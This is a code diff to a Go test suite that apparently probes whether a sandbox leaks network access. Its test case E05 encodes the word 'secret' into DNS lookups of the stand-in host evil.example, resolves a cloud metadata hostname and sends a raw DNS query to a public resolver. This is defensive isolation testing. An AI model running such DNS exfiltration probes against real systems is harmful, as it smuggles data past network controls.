@@ -132,7 +132,7 @@ empty sh -c 'echo | timeout 3 openssl s_client -connect 1.1.1.1:443 | grep BEGIN
 		{id: "E05", by: "both", aside: true, what: "data in questions for names", script: `
 for n in $(printf secret | base64 | tr -d =).evil.example example.com localhost.evil.example metadata.google.internal _x._tcp.evil.example; do
   empty getent hosts $n; done
-grep -v '^nameserver 127[.]0[.]0[.]' /etc/resolv.conf | grep nameserver && hole 'a resolver of the host' || held resolver
+grep '^nameserver' /etc/resolv.conf | grep -v '^nameserver 127[.]0[.]0[.]' && hole 'a resolver of the host' || held resolver
 empty sh -c 'python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex(\"123401000001000000000000076578616d706c6503636f6d0000010001\"), (\"8.8.8.8\", 53)); print(s.recv(100))"'`},
 		{id: "E05-udp", by: "both", aside: true, what: "datagrams to the host", script: "$A shouts " + h.shout + h.everybody},
 		{id: "E08", by: "both", aside: true, what: "the networks of other roles and projects", script: "$A strangers 3000 7070 8080 9100"},
@@ -204,7 +204,11 @@ func controlOfNetworks(t *testing.T, s *scene, h *host) {
 	for kind, args := range kinds {
 		asked.Go(func() {
 			out, err := weak(s, args, fmt.Sprintf("./attacker dials %s & ./attacker neighbours %d & wait", h.dial, h.port))
-			if err != nil || strings.Count(out, h.word) < 2 {
+			most := 2 // newer engines keep what is called internal from all addresses of the host's but one
+			if args != nil {
+				most = 1
+			}
+			if err != nil || strings.Count(out, h.word) < most {
 				t.Errorf("the attack does not work from %s, so that it holds shows nothing: %v: %s", kind, err, out)
 			}
 		})
